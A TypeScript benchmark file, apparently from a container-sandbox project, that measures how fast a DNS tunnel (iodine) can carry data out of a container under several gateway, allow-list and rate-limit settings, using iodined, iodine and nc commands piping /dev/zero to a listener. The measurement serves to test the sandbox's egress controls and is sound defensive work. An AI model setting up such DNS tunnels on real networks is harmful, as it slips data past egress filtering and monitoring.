import { statSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import type { LabContainer } from '../lab/container.ts'
import { Lab } from '../lab/lab.ts'
import type { Figure, Finding } from './figure.ts'

const SERVER = '203.0.113.77'
const ZONE = 't.tunnel.example'
const INSIDE = '10.99.0.1'
const PORT = 9000
const SECONDS = 15

/** What whoever owns an allowed zone can be told by questions below it. */
export const tunnel: Figure = {
  name: 'tunnel',
  title: 'What a DNS tunnel carries out',
  method: `iodine from a container to a server that answers for ${ZONE}, which sends as many bytes through a TCP connection as it can, for ${SECONDS} seconds. With the gateway the zone has to be allowed by a wildcard: else iodine does not get through at all (a lab test).`,
  async measure() {
    await using lab = await Lab.start({ name: 'bench-tunnel' })
    await lab.inet.dns({ [`*.${ZONE}`]: { forward: SERVER } })
    lab.service('internet', ['iodined', '-f', '-c', '-P', 'secret', '-l', SERVER, `${INSIDE}/24`, ZONE])
    const daemon = await lab.daemon({ config: 'allow: [allowed.example]' })
    const findings: Finding[] = []
    const measure = async (what: string, config: string): Promise<void> => {
      await daemon.hup(config)
      // A second for the switch, which nothing outside tells.
      await sleep(1_500)
      const bits = await carried(lab)
      findings.push({ what, measured: bits === undefined ? 'nothing' : `${(bits / 1000).toFixed(1)} kbit/s` })
    }
    const gateway = (rate: string, allow: string): string =>
      `dns: { gateway: true, log: none, ratePerContainer: ${rate} }\nallow: [${allow}]`
    await measure('no gateway', 'allow: [allowed.example]')
    await measure('gateway, zone not allowed', gateway('200/second', 'allowed.example'))
    await measure('gateway, zone allowed, 200 questions a second', gateway('200/second', `'**.${ZONE}'`))
    await measure('gateway, zone allowed, 5 questions a second', gateway('5/second', `'**.${ZONE}'`))
    await measure('gateway, zone allowed, no limit to speak of', gateway('10000/second', `'**.${ZONE}'`))
    return findings
  },
}

/** Bits a second that arrive; undefined: the tunnel does not open. */
async function carried(lab: Lab): Promise<number | undefined> {
  const file = join(lab.directory, `carried-${Date.now()}`)
  const sink = lab.service('internet', ['sh', '-c', `exec busybox nc -l -p ${PORT} >${file}`])
  const client = await lab.container({
    caps: ['NET_ADMIN'],
    host: {
      Devices: [{ PathOnHost: '/dev/net/tun', PathInContainer: '/dev/net/tun', CgroupPermissions: 'rwm' }],
    },
  })
  try {
    if (!(await opens(client))) return undefined
    const before = statSync(file).size
    await client.exec(['sh', '-c', `timeout ${SECONDS} sh -c 'cat /dev/zero | nc ${INSIDE} ${PORT}'`], {
      timeoutMs: 60_000,
    })
    return ((statSync(file).size - before) * 8) / SECONDS
  } finally {
    await sink.stop('SIGKILL')
    await client.stop()
  }
}

async function opens(client: LabContainer): Promise<boolean> {
  const { stdout } = await client.exec(
    [
      'sh',
      '-c',
      `iodine -f -r -P secret ${ZONE} >/tmp/iodine.log 2>&1 &
       for i in $(seq 30); do
         sleep 1
         ping -c 1 -W 2 ${INSIDE} >/dev/null 2>&1 && { echo through; break; }
       done`,
    ],
    { timeoutMs: 120_000 },
  )
  return stdout.includes('through')
}
